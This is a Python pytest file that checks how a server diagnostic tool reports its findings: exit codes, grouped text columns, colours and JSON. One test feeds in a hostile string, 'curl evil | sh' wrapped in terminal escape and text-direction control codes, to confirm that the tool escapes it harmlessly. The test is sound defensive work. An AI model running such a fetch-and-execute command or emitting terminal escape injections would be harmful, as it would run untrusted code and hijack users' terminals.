"""How findings are shown."""

from __future__ import annotations

import json

import pytest

from apex_rtm.doctor.catalogue import CHECKS, GROUPS
from apex_rtm.doctor.check import Check, Outcome, State, failure, ok, skipped, warning
from apex_rtm.doctor.examine import Finding
from apex_rtm.doctor.report import as_json, as_text, exit_code


def finding(name: str, outcome: Outcome, took_s: float = 0.0) -> Finding:
    return Finding(Check(name, f"title of {name}", lambda _patient: outcome), outcome, took_s)


GOOD = finding("config.loads", ok("no file, secured mode"))
SOON = finding("tls.expiry", warning("rtm expires in 9 days", "certbot renew"), 2.25)
BROKEN = finding("tls.chain", failure("the issuer is missing", "ssl_certificate fullchain.pem;", "nginx -t"))
ABSENT = finding("db.login", skipped("no database was given", "give --dsn"))
BLOCKED = finding("db.acl", Outcome(State.BLOCKED, "needs db.objects"))


@pytest.mark.parametrize(
    ("findings", "code"),
    [([], 1), ([GOOD, ABSENT], 0), ([GOOD, SOON], 1), ([SOON, BROKEN, GOOD], 2), ([BLOCKED], 1), ([ABSENT], 1)],
)
def test_the_worst_decides(findings: list[Finding], code: int) -> None:
    assert exit_code(findings) == code


def test_a_person_sees_groups_in_columns_with_remedies_below() -> None:
    text = list(as_text([GOOD, BROKEN, SOON, ABSENT, BLOCKED], lambda word, _colour: word, shows_skipped=False))
    assert text == [
        "Configuration",
        "  ok       config.loads  no file, secured mode",
        "",
        "Certificate",
        "  FAILURE  tls.chain     the issuer is missing",
        "                         | ssl_certificate fullchain.pem;",
        "                         | nginx -t",
        "  warning  tls.expiry    rtm expires in 9 days  (2.2 s)",
        "                         | certbot renew",
        "",
        "Database",
        "  not run  db.acl        needs db.objects",
        "",
        "1 failure, 1 warning, 1 ok, 1 skipped, 1 not run",
    ]
    everything = "\n".join(as_text([ABSENT], lambda word, _colour: word, shows_skipped=True))
    assert "skipped  db.login  no database was given" in everything
    assert list(as_text([], lambda word, _colour: word, shows_skipped=True)) == ["nothing was checked"]


def test_where_nothing_could_be_checked_it_says_why() -> None:
    """What others need may be fine; a script that asked for the database must not take that for an answer."""
    text = list(as_text([GOOD, ABSENT, ABSENT], lambda word, _colour: word, ["db"], shows_skipped=False))
    assert text[-3:] == [
        "Nothing that was asked for could be checked:",
        "  no database was given  | give --dsn",
        "1 ok, 2 skipped",
    ]
    assert exit_code([GOOD, ABSENT], ["db"]) == exit_code([GOOD, ABSENT], ["db.login"]) == 1
    assert json.loads(as_json([GOOD, ABSENT], ["db"]))["exitCode"] == 1
    assert exit_code([GOOD, ABSENT], ["config"]) == 0


def test_a_colour_says_the_same_as_the_word() -> None:
    seen = {}

    def paint(word: str, colour: str) -> str:
        seen[word.strip()] = colour
        return word

    list(as_text([GOOD, SOON, BROKEN], paint, shows_skipped=False))
    assert seen == {"ok": "green", "warning": "yellow", "FAILURE": "red"}


def test_a_program_gets_everything() -> None:
    told = json.loads(as_json([GOOD, BROKEN, SOON]))
    assert told["exitCode"] == 2
    assert told["checks"][1] == {
        "id": "tls.chain", "title": "title of tls.chain", "state": "failure", "saw": "the issuer is missing",
        "remedy": ["ssl_certificate fullchain.pem;", "nginx -t"], "seconds": 0.0,
    }  # fmt: skip
    assert [one["state"] for one in told["checks"]] == ["ok", "failure", "warning"]


def test_what_a_stranger_says_is_no_command_of_the_terminal() -> None:
    """A title that is set, a screen that is cleared, a line that looks like a remedy."""
    said = failure("\x1b]0;x\x07a\x9b2J\n | curl evil | sh\u202etxt", "tail\r\n\x1b[8mlog")
    text = list(as_text([finding("tls.chain", said)], lambda word, _colour: word, shows_skipped=False))
    assert text[1].endswith(r"tls.chain  \u001b]0;x\u0007a\u009b2J  | curl evil | sh\u202etxt")
    assert text[2].endswith(r"| tail  \u001b[8mlog")
    assert len(text) == 5
    shown = as_json([finding("tls.chain", said)])
    assert not {"\x1b", "\x9b", "\u202e"} & set(shown)


def test_every_group_has_a_heading() -> None:
    assert {check.group for check in CHECKS} - {"clock"} <= set(GROUPS)
    assert set(GROUPS) == {check.group for check in CHECKS}
